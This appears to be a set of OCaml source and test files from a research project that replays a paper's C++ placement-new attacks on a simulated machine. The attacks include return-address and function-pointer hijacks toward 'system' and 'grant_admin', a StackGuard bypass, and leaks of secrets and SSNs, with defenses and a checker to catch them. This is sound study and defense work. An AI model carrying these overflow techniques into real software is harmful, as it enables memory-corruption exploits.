