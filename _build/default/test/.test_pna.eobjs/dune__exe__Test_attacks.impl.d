test/test_attacks.ml: Alcotest Fmt List Option Pna_attacks Pna_defense Pna_machine Pna_minicpp String
