test/test_robustness.ml: Alcotest Bytes Char List Pna_attacks Pna_defense Pna_minicpp Pna_serial Random String
