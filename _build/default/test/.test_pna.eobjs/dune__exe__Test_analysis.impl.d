test/test_analysis.ml: Alcotest Fmt List Option Pna_analysis Pna_attacks Pna_layout Pna_minicpp QCheck QCheck_alcotest
