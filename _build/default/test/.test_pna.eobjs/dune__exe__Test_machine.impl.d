test/test_machine.ml: Alcotest Ctype Layout List Pna_attacks Pna_defense Pna_layout Pna_machine Pna_vmem String
