test/test_coverage.ml: Alcotest Hashtbl List Option Pna Pna_defense Pna_minicpp
