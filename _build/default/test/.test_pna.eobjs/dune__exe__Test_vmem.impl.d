test/test_vmem.ml: Alcotest Fault Gen List Perm Pna_vmem QCheck QCheck_alcotest Segment String Vmem
