test/test_layout.ml: Alcotest Class_def Ctype Fmt Layout List Pna_attacks Pna_layout QCheck QCheck_alcotest
