test/test_interp.ml: Alcotest List Pna_attacks Pna_defense Pna_machine Pna_minicpp Pna_vmem QCheck QCheck_alcotest String
