test/test_syntax.ml: Alcotest Fmt Hashtbl List Pna_analysis Pna_attacks Pna_defense Pna_layout Pna_machine Pna_minicpp QCheck QCheck_alcotest
