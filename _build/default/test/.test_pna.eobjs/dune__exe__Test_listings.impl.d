test/test_listings.ml: Alcotest Char List Pna_analysis Pna_defense Pna_machine Pna_minicpp Pna_vmem String Sys
