test/test_experiments.ml: Alcotest Fmt List Pna Pna_attacks Pna_defense Pna_minicpp
