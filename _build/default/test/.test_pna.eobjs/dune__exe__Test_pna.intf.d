test/test_pna.mli:
