test/test_hardener.ml: Alcotest Fmt List Pna Pna_analysis Pna_attacks Pna_defense Pna_machine Pna_minicpp Pna_vmem
