test/test_serial.ml: Alcotest Char Fun Gen Int64 List Pna_defense Pna_machine Pna_minicpp Pna_serial Pna_vmem QCheck QCheck_alcotest String
