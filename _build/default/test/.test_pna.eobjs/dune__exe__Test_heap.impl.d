test/test_heap.ml: Alcotest Gen List Perm Pna_machine Pna_vmem QCheck QCheck_alcotest Segment Vmem
