(* Tests for the wire format and the deserializing service. *)

open Pna_minicpp.Dsl
module Wire = Pna_serial.Wire
module Victim = Pna_serial.Victim
module Interp = Pna_minicpp.Interp
module Machine = Pna_machine.Machine
module Config = Pna_defense.Config
module O = Pna_minicpp.Outcome
module Vmem = Pna_vmem.Vmem

let le32_at s off =
  Char.code s.[off]
  lor (Char.code s.[off + 1] lsl 8)
  lor (Char.code s.[off + 2] lsl 16)
  lor (Char.code s.[off + 3] lsl 24)

let test_encode_student () =
  let w = Wire.student ~gpa:2.5 ~year:2012 ~semester:2 () in
  let s = Wire.encode w in
  Alcotest.(check int) "size" 20 (String.length s);
  Alcotest.(check int) "class id" Wire.student_id (le32_at s 0);
  Alcotest.(check int) "year" 2012 (le32_at s Wire.off_year);
  Alcotest.(check int) "semester" 2 (le32_at s Wire.off_semester)

let test_encode_grad () =
  let w = Wire.grad_student ~ssn:[| 7; 8; 9 |] ~courses:[ 1; 2 ] () in
  let s = Wire.encode w in
  Alcotest.(check int) "size" (36 + 8) (String.length s);
  Alcotest.(check int) "ssn[1]" 8 (le32_at s (Wire.off_ssn + 4));
  Alcotest.(check int) "count" 2 (le32_at s Wire.off_course_count);
  Alcotest.(check int) "course[1]" 2 (le32_at s (Wire.off_courses + 4))

let test_claimed_count_override () =
  let w = Wire.grad_student ~courses:[ 1 ] ~claimed_courses:100 () in
  Alcotest.(check int) "lying count" 100
    (le32_at (Wire.encode w) Wire.off_course_count)

let test_gpa_bit_exact () =
  let w = Wire.student ~gpa:3.9 () in
  let s = Wire.encode w in
  let bits = ref 0L in
  for k = 7 downto 0 do
    bits := Int64.logor (Int64.shift_left !bits 8)
        (Int64.of_int (Char.code s.[Wire.off_gpa + k]))
  done;
  Alcotest.(check (float 0.0)) "f64 roundtrip" 3.9 (Int64.float_of_bits !bits)

let service_program ~checked =
  program ~classes:Victim.classes
    ~globals:(Victim.pool_global :: Victim.state_globals)
    [
      Victim.deserialize_func ~checked;
      func "main"
        [
          decl "dgram" (char_arr 128);
          decli "len" int (call "recv" [ v "dgram"; i 128 ]);
          when_ (v "len" >: i 0) [ expr (call "deserialize" [ v "dgram" ]) ];
          ret (i 0);
        ];
    ]

let run_service ~checked payload =
  let prog = service_program ~checked in
  let m = Interp.load ~config:Config.none prog in
  Machine.set_input ~strings:[ payload ] m;
  (Interp.run m prog ~entry:"main", m)

let test_benign_student_deserializes () =
  let o, m =
    run_service ~checked:false
      (Wire.encode (Wire.student ~gpa:3.25 ~year:2013 ~semester:1 ()))
  in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "service failed: %a" O.pp_status st);
  let pool = Machine.global_addr_exn m "pool" in
  Alcotest.(check (float 0.0)) "gpa landed" 3.25 (Vmem.read_f64 (Machine.mem m) pool);
  Alcotest.(check int) "year landed" 2013 (Vmem.read_i32 (Machine.mem m) (pool + 8));
  Alcotest.(check int) "served" 1
    (Vmem.read_i32 (Machine.mem m) (Machine.global_addr_exn m "served"));
  Alcotest.(check bool) "wire data is tainted in memory" true
    (Vmem.range_tainted (Machine.mem m) pool 16)

let test_benign_grad_overflows_silently () =
  (* even an honest NetGradStudent is 48 bytes in a 16-byte pool: the
     overflow exists regardless of malice — the paper's "logic error" *)
  let o, m = run_service ~checked:false (Wire.encode (Wire.grad_student ())) in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "service failed: %a" O.pp_status st);
  let pool = Machine.global_addr_exn m "pool" in
  Alcotest.(check bool) "bytes past the pool written" true
    (Vmem.range_tainted (Machine.mem m) (pool + 16) 8)

let test_checked_service_rejects_grad () =
  let o, m = run_service ~checked:true (Wire.encode (Wire.grad_student ())) in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "service failed: %a" O.pp_status st);
  Alcotest.(check int) "rejected" 1
    (Vmem.read_i32 (Machine.mem m) (Machine.global_addr_exn m "rejected"));
  let pool = Machine.global_addr_exn m "pool" in
  Alcotest.(check bool) "nothing past the pool" false
    (Vmem.range_tainted (Machine.mem m) (pool + 16) 16)

let test_truncated_datagram_harmless () =
  (* recv delivers fewer bytes than any valid datagram; the service reads
     zeros for the missing fields *)
  let o, _ = run_service ~checked:false "\001" in
  match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "service crashed on short datagram: %a" O.pp_status st

let prop_encode_size =
  QCheck.Test.make ~count:200 ~name:"wire: encoded size formula"
    QCheck.(list_of_size (Gen.int_range 0 16) (int_bound 1000))
    (fun courses ->
      let w = Wire.grad_student ~courses () in
      Wire.size w = 36 + (4 * List.length courses))

let prop_courses_roundtrip =
  QCheck.Test.make ~count:200 ~name:"wire: course words round-trip"
    QCheck.(list_of_size (Gen.int_range 1 8) (int_bound 0xffffff))
    (fun courses ->
      let s = Wire.encode (Wire.grad_student ~courses ()) in
      List.for_all2
        (fun j c -> le32_at s (Wire.off_courses + (4 * j)) = c)
        (List.init (List.length courses) Fun.id)
        courses)

let suite =
  let t name f = Alcotest.test_case name `Quick f in
  ( "serial",
    [
      t "encode student" test_encode_student;
      t "encode grad student" test_encode_grad;
      t "claimed count override" test_claimed_count_override;
      t "gpa encodes bit-exactly" test_gpa_bit_exact;
      t "benign student request served" test_benign_student_deserializes;
      t "honest grad still overflows the pool" test_benign_grad_overflows_silently;
      t "checked service rejects oversize class" test_checked_service_rejects_grad;
      t "truncated datagram harmless" test_truncated_datagram_harmless;
      QCheck_alcotest.to_alcotest prop_encode_size;
      QCheck_alcotest.to_alcotest prop_courses_roundtrip;
    ] )
