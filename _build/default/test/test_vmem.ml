(* Unit and property tests for the simulated address space. *)

open Pna_vmem

let mk () =
  let m = Vmem.create () in
  let _ = Vmem.map m ~kind:Segment.Data ~base:0x1000 ~size:0x1000 ~perm:Perm.rw in
  let _ = Vmem.map m ~kind:Segment.Text ~base:0x4000 ~size:0x100 ~perm:Perm.rx in
  let _ = Vmem.map m ~kind:Segment.Stack ~base:0x8000 ~size:0x1000 ~perm:Perm.rwx in
  m

let check_fault name f =
  match f () with
  | _ -> Alcotest.failf "%s: expected a fault" name
  | exception Fault.Fault _ -> ()

let test_u8_roundtrip () =
  let m = mk () in
  Vmem.write_u8 m 0x1000 0xab;
  Alcotest.(check int) "u8" 0xab (Vmem.read_u8 m 0x1000);
  Vmem.write_u8 m 0x1fff 0x7;
  Alcotest.(check int) "last byte" 0x7 (Vmem.read_u8 m 0x1fff)

let test_u8_masks () =
  let m = mk () in
  Vmem.write_u8 m 0x1000 0x1ff;
  Alcotest.(check int) "masked to byte" 0xff (Vmem.read_u8 m 0x1000)

let test_u32_little_endian () =
  let m = mk () in
  Vmem.write_u32 m 0x1000 0x11223344;
  Alcotest.(check int) "lsb first" 0x44 (Vmem.read_u8 m 0x1000);
  Alcotest.(check int) "msb last" 0x11 (Vmem.read_u8 m 0x1003);
  Alcotest.(check int) "u32" 0x11223344 (Vmem.read_u32 m 0x1000)

let test_u16 () =
  let m = mk () in
  Vmem.write_u16 m 0x1004 0xbeef;
  Alcotest.(check int) "u16" 0xbeef (Vmem.read_u16 m 0x1004);
  Alcotest.(check int) "low" 0xef (Vmem.read_u8 m 0x1004)

let test_u64 () =
  let m = mk () in
  Vmem.write_u64 m 0x1008 0x1122334455667788L;
  Alcotest.(check int64) "u64" 0x1122334455667788L (Vmem.read_u64 m 0x1008);
  Alcotest.(check int) "low word" 0x55667788 (Vmem.read_u32 m 0x1008)

let test_f64 () =
  let m = mk () in
  Vmem.write_f64 m 0x1010 3.9;
  Alcotest.(check (float 0.0)) "double" 3.9 (Vmem.read_f64 m 0x1010)

let test_unmapped_fault () =
  let m = mk () in
  check_fault "read" (fun () -> Vmem.read_u8 m 0x0);
  check_fault "write" (fun () -> Vmem.write_u8 m 0x3000 1);
  check_fault "beyond end" (fun () -> Vmem.read_u8 m 0x2000)

let test_straddle_fault () =
  (* a u32 crossing the end of a segment faults at the first missing byte *)
  let m = mk () in
  check_fault "straddle" (fun () -> Vmem.read_u32 m 0x1ffe)

let test_perm_fault () =
  let m = mk () in
  check_fault "write to text" (fun () -> Vmem.write_u8 m 0x4000 1);
  (* read of text is fine *)
  Alcotest.(check int) "text readable" 0 (Vmem.read_u8 m 0x4000)

let test_poke_bypasses_perms () =
  let m = mk () in
  Vmem.poke_u32 m 0x4000 0xdead;
  Alcotest.(check int) "poked" 0xdead (Vmem.read_u32 m 0x4000)

let test_overlap_rejected () =
  let m = mk () in
  Alcotest.check_raises "overlap"
    (Invalid_argument "Vmem.add_segment: overlapping segment") (fun () ->
      ignore (Vmem.map m ~kind:Segment.Heap ~base:0x1800 ~size:0x1000 ~perm:Perm.rw))

let test_signed32 () =
  Alcotest.(check int) "negative" (-1) (Vmem.to_signed32 0xffffffff);
  Alcotest.(check int) "positive" 0x7fffffff (Vmem.to_signed32 0x7fffffff);
  Alcotest.(check int) "min" (-0x80000000) (Vmem.to_signed32 0x80000000);
  Alcotest.(check int) "roundtrip" 0xffffffff (Vmem.of_signed32 (-1))

let test_blit () =
  let m = mk () in
  Vmem.write_string m 0x1000 "hello";
  Vmem.blit m ~src:0x1000 ~dst:0x1100 ~len:5;
  Alcotest.(check string) "copied" "hello" (Vmem.read_bytes m 0x1100 5)

let test_blit_overlapping () =
  let m = mk () in
  Vmem.write_string m 0x1000 "abcdef";
  Vmem.blit m ~src:0x1000 ~dst:0x1002 ~len:4;
  Alcotest.(check string) "memmove semantics" "ababcd" (Vmem.read_bytes m 0x1000 6)

let test_fill () =
  let m = mk () in
  Vmem.fill m ~dst:0x1000 ~len:8 0x2a;
  Alcotest.(check string) "filled" "********" (Vmem.read_bytes m 0x1000 8)

let test_cstring () =
  let m = mk () in
  Vmem.write_string m 0x1000 "user\000tail";
  Alcotest.(check string) "stops at NUL" "user" (Vmem.read_cstring m 0x1000);
  Alcotest.(check string) "bounded" "us"
    (Vmem.read_cstring ~max_len:2 m 0x1000)

let test_taint_travels_with_blit () =
  let m = mk () in
  Vmem.write_u8 ~taint:true m 0x1000 0x41;
  Vmem.write_u8 m 0x1001 0x42;
  Vmem.blit m ~src:0x1000 ~dst:0x1100 ~len:2;
  Alcotest.(check bool) "tainted byte" true (Vmem.taint_of m 0x1100);
  Alcotest.(check bool) "clean byte" false (Vmem.taint_of m 0x1101)

let test_taint_overwrite_clears () =
  let m = mk () in
  Vmem.write_u8 ~taint:true m 0x1000 1;
  Vmem.write_u8 m 0x1000 2;
  Alcotest.(check bool) "untainted after clean write" false (Vmem.taint_of m 0x1000)

let test_range_tainted () =
  let m = mk () in
  Vmem.write_u8 ~taint:true m 0x1005 1;
  Alcotest.(check bool) "range hit" true (Vmem.range_tainted m 0x1000 8);
  Alcotest.(check bool) "range miss" false (Vmem.range_tainted m 0x1000 5);
  Alcotest.(check int) "count" 1 (Vmem.tainted_bytes m 0x1000 8)

let test_set_taint_range () =
  let m = mk () in
  Vmem.set_taint m 0x1000 4 true;
  Alcotest.(check int) "4 tainted" 4 (Vmem.tainted_bytes m 0x1000 8);
  Vmem.set_taint m 0x1000 4 false;
  Alcotest.(check int) "cleared" 0 (Vmem.tainted_bytes m 0x1000 8)

let test_trace () =
  let m = mk () in
  Vmem.enable_trace m;
  Vmem.write_u32 ~tag:"x" m 0x1000 1;
  let t = Vmem.trace m in
  Alcotest.(check int) "4 byte-writes" 4 (List.length t);
  Alcotest.(check string) "tag" "x" (List.hd t).Vmem.w_tag;
  Vmem.clear_trace m;
  Alcotest.(check int) "cleared" 0 (List.length (Vmem.trace m))

let test_find_segment () =
  let m = mk () in
  (match Vmem.find_segment m 0x1234 with
  | Some s -> Alcotest.(check int) "base" 0x1000 s.Segment.base
  | None -> Alcotest.fail "segment not found");
  Alcotest.(check bool) "miss" true (Vmem.find_segment m 0x7000 = None);
  Alcotest.(check bool) "kind lookup" true
    (Vmem.segment_of_kind m Segment.Text <> None)

let test_segments_sorted () =
  let m = mk () in
  let bases = List.map (fun s -> s.Segment.base) (Vmem.segments m) in
  Alcotest.(check (list int)) "ascending" [ 0x1000; 0x4000; 0x8000 ] bases

(* property tests *)

let prop_u32_roundtrip =
  QCheck.Test.make ~count:200 ~name:"vmem: u32 write/read roundtrip"
    QCheck.(pair (int_bound 0xffc) (int_bound 0xffffffff))
    (fun (off, v) ->
      let m = mk () in
      Vmem.write_u32 m (0x1000 + off) v;
      Vmem.read_u32 m (0x1000 + off) = v land 0xffffffff)

let prop_signed_roundtrip =
  QCheck.Test.make ~count:200 ~name:"vmem: signed32 is an involution"
    QCheck.(int_bound 0xffffffff)
    (fun v -> Vmem.of_signed32 (Vmem.to_signed32 v) = v)

let prop_blit_preserves_bytes =
  QCheck.Test.make ~count:100 ~name:"vmem: blit preserves contents"
    QCheck.(pair (string_of_size (Gen.int_range 1 64)) (int_bound 0x700))
    (fun (s, off) ->
      let m = mk () in
      Vmem.write_string m 0x1000 s;
      Vmem.blit m ~src:0x1000 ~dst:(0x1800 + off) ~len:(String.length s);
      Vmem.read_bytes m (0x1800 + off) (String.length s) = s)

let prop_fill_then_read =
  QCheck.Test.make ~count:100 ~name:"vmem: fill writes exactly len bytes"
    QCheck.(pair (int_bound 0xff) (int_range 1 32))
    (fun (v, len) ->
      let m = mk () in
      Vmem.write_u8 m (0x1100 + len) 0x77;
      Vmem.fill m ~dst:0x1100 ~len v;
      Vmem.read_u8 m 0x1100 = v land 0xff
      && Vmem.read_u8 m (0x1100 + len) = 0x77)

let suite =
  let t name f = Alcotest.test_case name `Quick f in
  ( "vmem",
    [
      t "u8 roundtrip" test_u8_roundtrip;
      t "u8 masks to byte" test_u8_masks;
      t "u32 little endian" test_u32_little_endian;
      t "u16" test_u16;
      t "u64" test_u64;
      t "f64" test_f64;
      t "unmapped access faults" test_unmapped_fault;
      t "segment-straddling access faults" test_straddle_fault;
      t "permission violation faults" test_perm_fault;
      t "poke bypasses permissions" test_poke_bypasses_perms;
      t "overlapping map rejected" test_overlap_rejected;
      t "signed32 conversions" test_signed32;
      t "blit" test_blit;
      t "blit handles overlap like memmove" test_blit_overlapping;
      t "fill" test_fill;
      t "cstring read" test_cstring;
      t "taint travels with blit" test_taint_travels_with_blit;
      t "clean write clears taint" test_taint_overwrite_clears;
      t "range taint queries" test_range_tainted;
      t "set_taint range" test_set_taint_range;
      t "write trace" test_trace;
      t "find_segment" test_find_segment;
      t "segments sorted" test_segments_sorted;
      QCheck_alcotest.to_alcotest prop_u32_roundtrip;
      QCheck_alcotest.to_alcotest prop_signed_roundtrip;
      QCheck_alcotest.to_alcotest prop_blit_preserves_bytes;
      QCheck_alcotest.to_alcotest prop_fill_then_read;
    ] )
