(* The listings/ directory: the paper's code as source files. Each file
   must parse, be flagged by the checker, and fall to the paper's attack
   when replayed on the simulated machine. *)

module P = Pna_minicpp.Parser
module Interp = Pna_minicpp.Interp
module Machine = Pna_machine.Machine
module Config = Pna_defense.Config
module O = Pna_minicpp.Outcome
module Vmem = Pna_vmem.Vmem
module PC = Pna_analysis.Placement_checker

let load_listing name =
  (* cwd is _build/default/test under `dune runtest`, the workspace root
     under `dune exec` *)
  let candidates = [ "../listings/" ^ name; "listings/" ^ name ] in
  let path =
    match List.find_opt Sys.file_exists candidates with
    | Some p -> p
    | None -> Alcotest.failf "listing %s not found" name
  in
  let ic = open_in_bin path in
  let src = really_input_string ic (in_channel_length ic) in
  close_in ic;
  P.program src

let run ?(config = Config.none) ?(ints = []) ?(strings = []) prog =
  let m = Interp.load ~config prog in
  Machine.set_input ~ints ~strings m;
  (Interp.run m prog ~entry:"main", m)

let global_i32 m name =
  Vmem.read_i32 (Machine.mem m) (Machine.global_addr_exn m name)

let check_flagged name prog =
  Alcotest.(check bool) (name ^ " flagged by the checker") true
    (PC.actionable prog <> [])

let test_listing11 () =
  let prog = load_listing "listing11.cpp" in
  check_flagged "listing11" prog;
  let o, m = run ~ints:[ 4; 2009; 1; 0x41414141; 0x42424242; 2012 ] prog in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "run failed: %a" O.pp_status st);
  let stud2 = Machine.global_addr_exn m "stud2" in
  Alcotest.(check int) "stud2.year overwritten" 2012
    (Vmem.read_i32 (Machine.mem m) (stud2 + 8))

let test_listing13 () =
  let prog = load_listing "listing13.cpp" in
  check_flagged "listing13" prog;
  (* naive smash under StackGuard: detected *)
  let m = Interp.load ~config:Config.stackguard prog in
  let sys = Machine.function_addr m "system" in
  Machine.set_input ~ints:[ 1; 2; sys ] m;
  (match (Interp.run m prog ~entry:"main").O.status with
  | O.Stack_smashing_detected -> ()
  | st -> Alcotest.failf "expected canary abort, got %a" O.pp_status st);
  (* selective overwrite: undetected hijack *)
  let m = Interp.load ~config:Config.stackguard prog in
  let sys = Machine.function_addr m "system" in
  Machine.set_input ~ints:[ -1; -1; sys ] m;
  match (Interp.run m prog ~entry:"main").O.status with
  | O.Arc_injection { symbol = "system"; _ } -> ()
  | st -> Alcotest.failf "expected hijack, got %a" O.pp_status st

let test_listing15 () =
  let prog = load_listing "listing15.cpp" in
  check_flagged "listing15" prog;
  let o, m = run ~ints:[ 40 ] prog in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "run failed: %a" O.pp_status st);
  Alcotest.(check int) "loop bound forced to 40" 40 (global_i32 m "counter")

let test_listing17 () =
  let prog = load_listing "listing17.cpp" in
  check_flagged "listing17" prog;
  let m = Interp.load ~config:Config.none prog in
  Machine.set_input ~ints:[ Machine.function_addr m "grant_admin" ] m;
  match (Interp.run m prog ~entry:"main").O.status with
  | O.Arc_injection { via = O.Function_pointer; symbol = "grant_admin"; _ } -> ()
  | st -> Alcotest.failf "expected fn-ptr hijack, got %a" O.pp_status st

let test_listing19 () =
  let prog = load_listing "listing19.cpp" in
  check_flagged "listing19" prog;
  let m = Interp.load ~config:Config.none prog in
  let sys = Machine.function_addr m "system" in
  let word = String.init 4 (fun k -> Char.chr ((sys lsr (8 * k)) land 0xff)) in
  let payload = String.concat "" (List.init 20 (fun _ -> word)) in
  Machine.set_input ~ints:[ 5; 10 ] ~strings:[ payload ] m;
  match (Interp.run m prog ~entry:"main").O.status with
  | O.Arc_injection { via = O.Return_address; symbol = "system"; _ } -> ()
  | st -> Alcotest.failf "expected two-step hijack, got %a" O.pp_status st

let test_listing21 () =
  let prog = load_listing "listing21.cpp" in
  check_flagged "listing21" prog;
  let o, _ = run ~strings:[ "bob" ] prog in
  Alcotest.(check bool) "secret leaked" true
    (List.exists
       (fun s ->
         let needle = "SECRET-TOKEN-1337" in
         let nl = String.length needle and sl = String.length s in
         let rec go i = i + nl <= sl && (String.sub s i nl = needle || go (i + 1)) in
         go 0)
       o.O.output)

let test_listing22 () =
  let prog = load_listing "listing22.cpp" in
  check_flagged "listing22" prog;
  let o, _ = run prog in
  let ssn_bytes =
    String.init 4 (fun k -> Char.chr ((123456789 lsr (8 * k)) land 0xff))
  in
  Alcotest.(check bool) "ssn bytes in serialized output" true
    (List.exists
       (fun s ->
         let nl = String.length ssn_bytes and sl = String.length s in
         let rec go i = i + nl <= sl && (String.sub s i nl = ssn_bytes || go (i + 1)) in
         go 0)
       o.O.output)

let test_listing23 () =
  let prog = load_listing "listing23.cpp" in
  check_flagged "listing23" prog;
  let o, m = run ~ints:[ 100 ] prog in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "run failed: %a" O.pp_status st);
  Alcotest.(check int) "16 bytes leaked per iteration" 1600
    (Machine.leaked_bytes m)

let test_listing12 () =
  let prog = load_listing "listing12.cpp" in
  check_flagged "listing12" prog;
  let o, _ = run ~ints:[ 0x10; 0x20; 0x58585858 ] prog in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "run failed: %a" O.pp_status st);
  Alcotest.(check bool) "heap neighbour rewritten" true
    (List.exists (fun out -> out = "XXXXefghijklmno") o.O.output)

let test_listing16 () =
  let prog = load_listing "listing16.cpp" in
  check_flagged "listing16" prog;
  let o, m = run ~ints:[ 0x41414141; 0x42424242 ] prog in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "run failed: %a" O.pp_status st);
  let bits =
    Vmem.read_u32 (Machine.mem m) (Machine.global_addr_exn m "observed_gpa")
  in
  Alcotest.(check int) "first.gpa low word replaced" 0x41414141 bits

let test_listing18 () =
  let prog = load_listing "listing18.cpp" in
  check_flagged "listing18" prog;
  let m = Interp.load ~config:Config.none prog in
  Machine.set_input
    ~ints:[ Machine.global_addr_exn m "authenticated" ]
    ~strings:[ "\001\001\001" ]
    m;
  let o = Interp.run m prog ~entry:"main" in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "run failed: %a" O.pp_status st);
  Alcotest.(check bool) "flag set through hijacked pointer" true
    (global_i32 m "authenticated" <> 0)

let test_listing20 () =
  let prog = load_listing "listing20.cpp" in
  check_flagged "listing20" prog;
  let filler = String.make 64 'u' in
  let word w = String.init 4 (fun k -> Char.chr ((w lsr (8 * k)) land 0xff)) in
  let o, m =
    run ~ints:[ 5; 9 ] ~strings:[ filler ^ word 0x31313131 ^ word 0x39393939 ] prog
  in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "run failed: %a" O.pp_status st);
  Alcotest.(check int) "n_staff rewritten" 0x31313131
    (Vmem.read_u32 (Machine.mem m) (Machine.global_addr_exn m "n_staff"))

let test_all_files_roundtrip_through_printer () =
  List.iter
    (fun name ->
      let prog = load_listing name in
      let printed = Pna_minicpp.Cpp_print.program_to_string prog in
      let reparsed = P.program printed in
      Alcotest.(check string)
        (name ^ " survives print/parse")
        printed
        (Pna_minicpp.Cpp_print.program_to_string reparsed))
    [
      "listing11.cpp"; "listing12.cpp"; "listing13.cpp"; "listing15.cpp";
      "listing16.cpp"; "listing17.cpp"; "listing18.cpp"; "listing19.cpp";
      "listing20.cpp"; "listing21.cpp"; "listing22.cpp"; "listing23.cpp";
    ]

let suite =
  let t name f = Alcotest.test_case name `Quick f in
  ( "listings",
    [
      t "listing 11: data/bss overflow" test_listing11;
      t "listing 12: heap overflow" test_listing12;
      t "listing 16: member overwrite" test_listing16;
      t "listing 18: variable pointer subterfuge" test_listing18;
      t "listing 20: two-step bss array smash" test_listing20;
      t "listing 13: smash detected, bypass not" test_listing13;
      t "listing 15: loop bound overwritten" test_listing15;
      t "listing 17: function pointer subterfuge" test_listing17;
      t "listing 19: two-step array smash" test_listing19;
      t "listing 21: password file leaks" test_listing21;
      t "listing 22: SSN survives reuse" test_listing22;
      t "listing 23: placement-delete leak" test_listing23;
      t "all files survive print/parse" test_all_files_roundtrip_through_printer;
    ] )
