(** Security-relevant events observed while a program executes.

    Events are the ground truth the experiment harness reports on: an
    attack "succeeds" when the run emits the hijack/corruption event the
    paper describes, and a defense "works" when the corresponding blocking
    event replaces it. *)

type t =
  | Canary_smashed of { func : string; expected : int; found : int }
      (** StackGuard epilogue check failed; program terminated *)
  | Return_hijacked of {
      func : string;
      legit : int;
      actual : int;
      symbol : string option;  (** text symbol at the new target, if any *)
      tainted : bool;  (** true when attacker bytes reached the slot *)
    }
  | Frame_pointer_corrupted of { func : string; legit : int; actual : int }
  | Shadow_stack_blocked of { func : string; actual : int }
  | Bounds_blocked of { site : string; arena : int; placed : int }
  | Nx_blocked of { addr : int }
  | Arena_sanitized of { addr : int; len : int }
  | Out_of_memory of { requested : int; in_use : int }
  | Heap_corrupted of { addr : int; detail : string }
  | Placement of { site : string; addr : int; size : int; arena : int option }
      (** audit record for every placement-new, with the arena size when the
          machine can resolve the target address to a known allocation *)
  | Vptr_hijacked of { class_ : string; addr : int; actual : int; tainted : bool }
  | Fun_ptr_hijacked of { name : string; actual : int; symbol : string option; tainted : bool }

(** Raised when a defense terminates the program (StackGuard abort,
    shadow-stack block, NX fault, bounds-check refusal). *)
exception Security_stop of t

let pp ppf = function
  | Canary_smashed e ->
    Fmt.pf ppf "*** stack smashing detected ***: %s (canary 0x%08x -> 0x%08x)"
      e.func e.expected e.found
  | Return_hijacked e ->
    Fmt.pf ppf "return hijacked in %s: 0x%08x -> 0x%08x%a%s" e.func e.legit
      e.actual
      Fmt.(option (fun ppf s -> pf ppf " (= %s)" s))
      e.symbol
      (if e.tainted then " [tainted]" else "")
  | Frame_pointer_corrupted e ->
    Fmt.pf ppf "frame pointer corrupted in %s: 0x%08x -> 0x%08x" e.func e.legit
      e.actual
  | Shadow_stack_blocked e ->
    Fmt.pf ppf "shadow stack blocked return in %s to 0x%08x" e.func e.actual
  | Bounds_blocked e ->
    Fmt.pf ppf "placement bounds check blocked %s: placing %d bytes in %d-byte arena"
      e.site e.placed e.arena
  | Nx_blocked e -> Fmt.pf ppf "NX blocked execution at 0x%08x" e.addr
  | Arena_sanitized e -> Fmt.pf ppf "sanitized %d bytes at 0x%08x" e.len e.addr
  | Out_of_memory e ->
    Fmt.pf ppf "out of memory: requested %d with %d in use" e.requested e.in_use
  | Heap_corrupted e -> Fmt.pf ppf "heap metadata corrupted at 0x%08x: %s" e.addr e.detail
  | Placement e ->
    Fmt.pf ppf "placement new at %s: %d bytes at 0x%08x%a" e.site e.size e.addr
      Fmt.(option (fun ppf a -> pf ppf " (arena %d bytes)" a))
      e.arena
  | Vptr_hijacked e ->
    Fmt.pf ppf "vtable pointer of %s at 0x%08x hijacked to 0x%08x%s" e.class_
      e.addr e.actual
      (if e.tainted then " [tainted]" else "")
  | Fun_ptr_hijacked e ->
    Fmt.pf ppf "function pointer %s hijacked to 0x%08x%a%s" e.name e.actual
      Fmt.(option (fun ppf s -> pf ppf " (= %s)" s))
      e.symbol
      (if e.tainted then " [tainted]" else "")

let to_string t = Fmt.str "%a" pp t

let is_blocking = function
  | Canary_smashed _ | Shadow_stack_blocked _ | Bounds_blocked _ | Nx_blocked _
    ->
    true
  | _ -> false

let is_hijack = function
  | Return_hijacked _ | Vptr_hijacked _ | Fun_ptr_hijacked _ -> true
  | _ -> false
