(** A call-stack frame: return-address slot, optional saved frame pointer
    and canary, and the locals below them — the memory picture the paper's
    stack attacks traverse (see the diagram in the implementation). *)

type local = {
  lv_name : string;
  lv_addr : int;
  lv_type : Pna_layout.Ctype.t;
  lv_size : int;
}

type t = {
  fr_func : string;
  fr_base : int;  (** sp before the call pushed anything *)
  fr_ret_slot : int;
  fr_ret_legit : int;
  fr_fp_slot : int option;
  fr_fp_legit : int;
  fr_canary_slot : int option;
  mutable fr_locals : local list;  (** most recently declared first *)
}

val find_local : t -> string -> local option
val pp : Format.formatter -> t -> unit
