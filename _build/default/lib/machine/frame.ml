(** A call-stack frame of the simulated machine.

    Memory picture for a frame of [f] (stack grows downward; addresses
    increase upward):

    {v
      caller frame ...
      +-----------------------+  higher addresses
      | return address        |  <- fr_ret_slot
      | saved frame pointer   |  <- fr_fp_slot      (if save_frame_pointer)
      | canary                |  <- fr_canary_slot  (if stack_protector)
      | local #1 (declared 1st)|
      | local #2              |
      | ...                   |  <- sp after prologue
      +-----------------------+  lower addresses
    v}

    An object local overflowing upward therefore reaches, in order: the
    locals declared before it, the canary, the saved frame pointer, and the
    return address — the exact traversal the paper's Listings 13–16 use. *)

type local = {
  lv_name : string;
  lv_addr : int;
  lv_type : Pna_layout.Ctype.t;
  lv_size : int;
}

type t = {
  fr_func : string;
  fr_base : int;  (** sp before the call pushed anything *)
  fr_ret_slot : int;
  fr_ret_legit : int;
  fr_fp_slot : int option;
  fr_fp_legit : int;
  fr_canary_slot : int option;
  mutable fr_locals : local list;  (** most recently declared first *)
}

let find_local t name =
